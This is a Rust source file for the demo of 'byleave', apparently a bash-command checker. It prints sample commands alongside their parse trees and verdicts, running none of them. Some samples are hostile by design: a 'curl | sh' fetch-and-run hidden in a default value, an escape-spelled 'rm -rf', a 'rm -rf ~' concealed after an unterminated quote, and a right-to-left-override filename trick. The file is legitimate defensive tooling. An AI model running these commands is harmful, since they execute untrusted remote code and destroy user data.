//! `byleave demo reader`: a minute with the reader and the verdicts. It runs nothing and writes nothing.

use std::io::{self, Write};

use crate::check;
use crate::escape;
use crate::parse;
use crate::style::{HEADING, LABEL};

struct Example {
    claim: &'static str,
    command: &'static str,
}

const EXAMPLES: &[Example] = &[
    Example { claim: "One command is one line.", command: "git status --short" },
    Example {
        claim: "In a chain every command counts, and so does every redirection.",
        command: "cd build && make -j4 2>&1 | tee build.log; ! test -s errors.txt",
    },
    Example {
        claim: "A default value can run a program.",
        command: "echo \"editor: ${EDITOR:-$(curl -s https://example.com/x | sh)}\"",
    },
    Example {
        claim: "So can a line of a here-document, unless its delimiter is quoted.",
        command: "cat > notes.txt <<END\ntoday: $(date +%F)\nEND",
    },
    Example {
        claim: "Backticks are read like any other substitution.",
        command: "tar czf backup-`hostname`.tgz ~/src/*.rs",
    },
    Example {
        claim: "Spelling does not hide a name: this is `rm`.",
        command: "$'\\x72\\155' -r\"f\" {build,dist}/out",
    },
    Example {
        claim: "Loops, conditions and functions are read through.",
        command: "tidy() { gzip \"$1\"; }; for f in *.log; do if test -s \"$f\"; then tidy \"$f\"; fi; done > /tmp/log",
    },
    Example {
        claim: "What cannot be read is never skipped. It is shown, with the reason.",
        command: "ls -l && echo \"ready; rm -rf ~",
    },
    Example { claim: "Characters that hide are spelt out.", command: "cat\u{a0}notes.txt # \u{202e}txt.exe" },
];

/// Shows every example with what the reader found in it.
pub fn show(out: &mut dyn Write, width: usize) -> io::Result<()> {
    writeln!(out, "{HEADING}byleave reads bash, finds every command a text may run, and decides.{HEADING:#}")?;
    writeln!(out, "{LABEL}Nothing below is run. ⟨…⟩ marks words that may change at run time.{LABEL:#}")?;
    for (example, number) in EXAMPLES.iter().zip(1..) {
        writeln!(out, "\n{HEADING}{number}. {}{HEADING:#}\n", example.claim)?;
        for (line, prompt) in example.command.lines().zip(std::iter::once("$").chain(std::iter::repeat(">"))) {
            writeln!(out, "   {LABEL}{prompt}{LABEL:#} {}", escape::shown(line))?;
        }
        writeln!(out)?;
        let bytes = example.command.as_bytes();
        parse::tree(out, &byleave_shell::read(bytes), bytes, width)?;
        check::sample(out, example.command)?;
    }
    writeln!(out, "\n{HEADING}Try it{HEADING:#}\n")?;
    writeln!(out, "   byleave parse 'any command of yours'")?;
    writeln!(out, "   byleave parse --json < a-script.sh")?;
    writeln!(out, "   byleave check bash '{{\"command\":\"any command of yours\"}}' --explain")?;
    Ok(())
}
